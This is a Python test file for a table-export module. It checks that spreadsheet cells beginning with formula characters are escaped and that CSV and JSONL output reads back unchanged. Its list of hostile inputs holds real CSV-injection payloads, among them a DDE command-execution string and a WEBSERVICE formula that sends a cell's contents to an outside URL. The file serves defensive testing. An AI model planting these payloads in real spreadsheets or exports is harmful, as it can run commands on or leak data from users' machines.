"""No cell of a table is ever a formula, whatever people write."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from standup_tui.records.tables import safe, table

HOSTILE = (
    "=1+1",
    "+44 1632 960001",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=cmd",
    '"=HYPERLINK("https://example.org")',
    "'=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "“=1+1”",
    "\uff1d1+1",
    "\uff20SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://example.org/?"&A1)',
    "|calc",
    "%0A=1+1",
)


@pytest.mark.fault("G8")
@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_cell_is_text(text: str) -> None:
    assert safe(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "A good day", "2 + 2 = 4", "x:1", "someone@example.org", "…"]
)
def test_a_harmless_cell_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


@pytest.mark.fault("G8")
@given(st.text())
def test_what_a_spreadsheet_looks_at_first_is_never_a_sign_of_a_formula(text: str) -> None:
    begins = safe(text)
    assert not begins.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not begins.strip(" \"'\t\r\n").startswith(("=", "+", "-", "@")) or begins[0] == "'"


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_a_table_reads_back_as_it_was_written() -> None:
    file = io.BytesIO()
    sheet = table(file, "csv", ("a", "b"))
    cells = ('quotes " and, commas', "two\nlines", *HOSTILE)
    for one in cells:
        sheet.write({"a": one, "b": 7})
    sheet.close()
    assert not file.closed
    assert file.getvalue().startswith(b"\xef\xbb\xbf")
    assert rows_of(file.getvalue()) == [["a", "b"], *([safe(one), "7"] for one in cells)]


def test_lines_for_scripts_are_not_changed() -> None:
    file = io.BytesIO()
    lines = table(file, "jsonl", ("a",))
    lines.write({"a": "=1+1"})
    lines.close()
    assert file.getvalue() == b'{"a":"=1+1"}\n'
